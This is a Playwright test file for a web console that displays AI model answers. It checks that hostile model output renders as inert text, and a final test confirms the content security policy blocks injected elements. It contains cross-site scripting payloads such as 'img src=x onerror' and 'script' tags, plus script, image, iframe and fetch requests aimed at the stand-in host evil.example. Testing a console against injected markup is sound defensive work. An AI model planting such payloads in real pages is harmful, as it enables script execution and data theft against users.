"""What a model writes is not to be trusted: it stays text, loads nothing and runs nothing."""

import pytest
from playwright.sync_api import expect

from tests.e2e.console.console import Console
from tests.e2e.console.hostile import HOSTILE

pytestmark = pytest.mark.chromium

FORBIDDEN = "img,script,svg,iframe,style,form,input,math,object,embed,base,meta,link,b"
# Where a browser would act on its own, or a link would lead anywhere but to a web page or a mail.
UNSAFE = r"""root => [root, ...root.querySelectorAll('*')].flatMap(node => [...node.attributes]
    .filter(({name, value}) => /^on|^style$|^src/.test(name) ||
        (name === 'href' && !/^(https?:\/\/.|mailto:)/.test(value)))
    .map(({name, value}) => `${name}=${value}`))"""


def assert_harmless(console: Console, loaded: list[str]) -> None:
    thread = console.page.locator("#thread")
    expect(thread.locator(f".prose :is({FORBIDDEN})")).to_have_count(0)
    for prose in console.answers.all():
        assert prose.evaluate(UNSAFE) == []
    assert console.page.evaluate("window.ran") is None
    assert {url.split("/")[2] for url in loaded} == {console.address.split("/")[2]}


def test_hostile_answers_stay_text_while_they_come_and_when_they_are_stored(console: Console) -> None:
    loaded: list[str] = []
    console.page.on("request", lambda request: loaded.append(request.url))
    for name in HOSTILE:
        console.ask(name)
        assert_harmless(console, loaded)
    console.page.reload()
    expect(console.answers.last).to_be_visible()
    console.page.get_by_role("region", name="Conversation").press("Home")
    expect(console.answers).to_have_count(len(HOSTILE))
    assert_harmless(console, loaded)
    shown = console.page.locator("#thread").inner_text()
    for visible in ("<img src=x onerror=", "<script>window.ran=1</script>", "<iframe src=", "<b onmouseover="):
        assert visible in shown
    for link in console.answers.locator("a[href]").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        link.hover()
    assert console.page.evaluate("window.ran") is None


@pytest.mark.parametrize("name", ["deep list", "deep quotation", "long emphasis"])
def test_an_answer_that_cannot_be_formatted_is_shown_as_it_was_written(console: Console, name: str) -> None:
    console.ask(name)
    expect(console.answers).to_have_text(HOSTILE[name])
    console.page.reload()
    expect(console.answers).to_have_text(HOSTILE[name])
    expect(console.problem).to_have_count(0)


@pytest.mark.parametrize("name", ["scheme with an invisible character", "scheme alone", "empty link"])
def test_link_that_leads_nowhere_is_text(console: Console, name: str) -> None:
    console.ask(name)
    expect(console.answers.locator("a")).to_have_count(2)
    expect(console.answers.locator("a[href]")).to_have_count(0)


def test_hostile_prompts_tools_and_names_stay_text(console: Console) -> None:
    image = "<img/src=x/onerror=window.ran=1>"
    console.ask(f'{image}\ntool: remember_note {{"note": "{image}"}}\ntool: {image} {{}}\nthen\nsay: kept')
    console.button("Details").click()
    expect(console.page.get_by_label("Agent’s state")).to_contain_text("<img/src=x")
    expect(console.said).to_contain_text("<img/src=x")
    expect(console.sessions).to_contain_text("<img/src=x")
    expect(console.page.locator("img:not(.brand img)")).to_have_count(0)
    assert console.page.evaluate("window.ran") is None


def test_the_policy_alone_stops_what_the_page_would_let_through(console: Console) -> None:
    """The last wall, tried without the others: the page's own script is made to do what it never does."""
    console.page.evaluate(
        """() => {
            const refusals = window.refusals = [];
            addEventListener("securitypolicyviolation", event => refusals.push(event.effectiveDirective));
            try { document.body.innerHTML = "<p>"; } catch { refusals.push("innerHTML"); }
            for (const [name, attribute] of [["script", "src"], ["img", "src"], ["iframe", "src"]]) {
                const element = document.createElement(name);
                try { element[attribute] = "https://evil.example/"; document.body.append(element); }
                catch { refusals.push(name); }
            }
            fetch("https://evil.example/").catch(() => {});
        }"""
    )
    for refusal in ("innerHTML", "script", "img-src", "frame-src", "connect-src"):
        console.page.wait_for_function("refusal => window.refusals.includes(refusal)", arg=refusal)
    console.errors.clear()  # Chromium reports each refusal
